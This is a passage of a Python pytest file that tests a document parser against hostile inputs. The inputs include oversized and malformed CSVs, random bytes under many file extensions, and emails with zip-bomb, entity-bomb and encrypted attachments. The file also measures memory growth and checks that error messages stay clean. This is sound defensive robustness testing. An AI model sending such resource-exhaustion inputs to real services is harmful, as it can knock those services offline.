case("csv-50mb-single-field", lambda: b'"' + b"a" * FIFTY_MB + b'"', "field.csv", "DOCUMENT_TOO_LARGE")
case("csv-50mb-of-short-rows", lambda: _repeat(b"refund,30,days\n", FIFTY_MB), "rows.csv", "DOCUMENT_TOO_LARGE")
case("csv-unclosed-quote", lambda: b'a,b\n"refund,30\nnext,1\n', "quote.csv", OK, contains="refund")
case("csv-binary", lambda: random.Random(3).randbytes(32 * 1024), "data.csv", "PARSE_ERROR")
case("csv-20k-columns", lambda: b",".join(b"c%d" % i for i in range(20_000)) + b"\n" + b",".join(b"%d" % i for i in range(20_000)),
     "wide.csv", OK, contains="c999: 999")
case("eml-ok-with-attachments", lambda: _eml(attachments=(("prices.xlsx", _xlsx()), ("notes.txt", b"Receipt kept 5 years"))),
     "mail.eml", OK, contains="Receipt kept 5 years")
case("eml-zip-bomb-attachment", lambda: _eml(attachments=(("bomb.docx", fixture("zip-bomb.docx")),)), "bomb.eml", OK,
     contains="Refunds are paid")
case("eml-entity-bomb-attachment", lambda: _eml(attachments=(("laughs.docx", fixture("entity-bomb.docx")),)),
     "laughs.eml", OK, contains="Refunds are paid")
case("eml-encrypted-pdf-attachment", lambda: _eml(attachments=(("secret.pdf", fixture("libreoffice-writer-password.pdf")),)),
     "secret.eml", OK, contains="Refunds are paid")
case("eml-subject-and-an-image", lambda: _eml(body="", attachments=(("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(100)),)),
     "logo.eml", OK, contains="Refund policy")  # the subject is text
case("eml-headers-and-blank-body", lambda: b"From: a@example.com\nTo: b@example.com\n\n  \n\t\n", "blank.eml",
     "EMPTY_DOCUMENT")
case("eml-no-headers", lambda: b"just some words\nand more words\n", "plain.eml", "PARSE_ERROR")
case("eml-nested-10-deep", lambda: _nested_eml(10), "nested.eml", OK, contains="wrapper 9 text")
case("eml-attachment-over-char-limit", lambda: _eml(attachments=(("big.txt", _repeat(b"refund days ", 8_000_000)),)),
     "big.eml", OK, contains="Refunds are paid")
case("eml-200-attachments", lambda: _eml(attachments=tuple((f"a{i}.txt", b"refund %d" % i) for i in range(200))),
     "many.eml", OK, contains="refund 99")
case("scan-ocr-reads-the-image", lambda: _scan(("Refunds within 30 days",)), "scan.pdf", OK, contains="Refunds")
case("scan-blank-page", lambda: _scan(()), "blank-scan.pdf", "EMPTY_DOCUMENT")
case("scan-300-pages-within-the-cap", lambda: _scan(("Refunds within 30 days",), pages=300), "long-scan.pdf", OK,
     contains="Refunds", limits=ParseLimits(time_limit_s=5, max_time_s=12, ocr_seconds_per_page=2, max_ocr_pages=300))


def _pptx_many(slides: int) -> bytes:
    """A deck of ``slides`` empty slides, the slide part copied (python-pptx takes seconds per 1000 slides)."""
    import pptx

    deck = pptx.Presentation()
    layout = deck.slide_layouts[6]
    for _ in range(slides):
        deck.slides.add_slide(layout)
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


# --- random bytes under every name ----------------------------------------------------------------------

for _ext in ("txt", "md", "rst", "html", "pdf", "docx", "pptx", "xlsx", "csv", "eml"):
    for _seed in range(3):
        case(f"random-{_ext}-seed{_seed}", lambda s=_seed: random.Random(1000 + s).randbytes(32 * 1024),
             f"random.{_ext}", "PARSE_ERROR")


# --- the test -------------------------------------------------------------------------------------------------


def _params() -> list:
    params = []
    for c in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=c.xfail)] if c.xfail else []
        params.append(pytest.param(c, id=c.id, marks=marks))
    return params


def test_there_are_at_least_100_cases() -> None:
    assert len(CASES) >= 100
    assert len({c.id for c in CASES}) == len(CASES)


_PAGE_MB = os.sysconf("SC_PAGE_SIZE") / 2**20
_SERVER_PATH = re.compile(r"(?:/[\w.\-+@~ ]+){2,}")
"""Two or more path segments: a server path (media types like application/pdf have one)."""


def _rss_mb() -> float:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * _PAGE_MB


class PeakRss:
    """Samples this process's resident memory every few milliseconds: native (lxml, zlib) and Python
    allocations alike, without slowing the parse down the way tracemalloc does."""

    def __init__(self, interval: float = 0.002) -> None:
        self.interval = interval
        self.baseline = self.peak = _rss_mb()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            self.peak = max(self.peak, _rss_mb())

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, _rss_mb())

    @property
    def growth_mb(self) -> float:
        return self.peak - self.baseline


def _parse(hostile: Case, data: bytes) -> tuple[str, str]:
    """(outcome, text): OK and the parsed text, or the error code. Asserts what any error must be."""
    try:
        doc = parse_document(data, filename=hostile.filename, media_type=hostile.media_type,
                             limits=hostile.limits or LIMITS)
    except KbindexError as exc:  # anything else escaping is a crash, and fails the test as it is
        assert not is_retryable(exc.code), f"{exc.code} must be permanent"
        assert exc.message and "\n" not in exc.message and not _SERVER_PATH.search(exc.message), exc.message
        return exc.code, ""
    return OK, "\n".join(block.text for block in doc.blocks)


def _parse_in_child(hostile: Case) -> tuple[str, str, float]:
    """Parse one case in a fresh interpreter; (outcome, text, peak RSS growth in MB over input + imports)."""
    code = f"""
import importlib.util, json, resource, sys
spec = importlib.util.spec_from_file_location("hostile_cases", {str(Path(__file__))!r})
cases = sys.modules["hostile_cases"] = importlib.util.module_from_spec(spec)
spec.loader.exec_module(cases)
(hostile,) = [c for c in cases.CASES if c.id == {hostile.id!r}]
data = hostile.make()
high_water = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with cases.PeakRss() as memory:
    outcome, text = cases._parse(hostile, data)
# Both are lower bounds of the true peak: the sampler misses spikes inside one long C call (it needs the
# GIL), the high-water mark misses peaks below what building the input already reached.
growth = max(memory.growth_mb, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - high_water) / 1024)
json.dump({{"outcome": outcome, "text": text[:10000], "growth": growth}}, sys.stdout)
"""
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=28,
                            cwd=Path(__file__).resolve().parents[2])
    assert result.returncode == 0, result.stderr[-3000:]
    answer = json.loads(result.stdout)
    return answer["outcome"], answer["text"], answer["growth"]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("hostile", _params())
def test_hostile_input(hostile: Case, record_property) -> None:
    started = time.monotonic()
    if hostile.isolated:
        outcome, text, growth_mb = _parse_in_child(hostile)
    else:
        data = hostile.make()
        started = time.monotonic()
        with PeakRss() as memory:
            outcome, text = _parse(hostile, data)
        growth_mb = memory.growth_mb
    seconds = time.monotonic() - started
    record_property("peak_rss_growth_mb", round(growth_mb, 1))
    record_property("seconds", round(seconds, 2))
    print(f"{hostile.id}: {outcome} in {seconds:.1f} s{' (own process)' if hostile.isolated else ''}, "
          f"peak RSS +{growth_mb:.0f} MB", file=sys.stderr)
    assert outcome == hostile.expected
    if outcome == OK:
        assert text.strip()
        if hostile.contains:
            assert hostile.contains in text
    assert growth_mb < MEMORY_BOUND_MB


# --- a missing optional library is named, never reported as a damaged file ------------------------
_WITHOUT_CRYPTOGRAPHY = """
import sys
sys.modules["cryptography"] = None  # as on a machine where it is not installed
sys.modules["pypdfium2"] = None  # PDFium decrypts AES itself: only the pypdf fallback needs cryptography
from pipelines.domain.errors import KbindexError
from pipelines.domain.parsing import parse_document
try:
    parse_document(sys.stdin.buffer.read(), filename="owner-only.pdf", media_type="application/pdf")
except KbindexError as exc:
    print(exc.code)
    print(exc.message)
else:
    print("OK")
"""


@pytest.mark.parametrize("algorithm", ["AES-128", "AES-256"])
def test_aes_pdf_without_cryptography_names_the_package(algorithm: str) -> None:
    import subprocess
    import sys

    data = _encrypted("", algorithm)
    done = subprocess.run([sys.executable, "-c", _WITHOUT_CRYPTOGRAPHY], input=data, capture_output=True,
                          timeout=60, check=True)
    code, message = done.stdout.decode().splitlines()[:2]
    assert code == "DEPENDENCY_MISSING"
    assert "cryptography" in message and "damaged" not in message
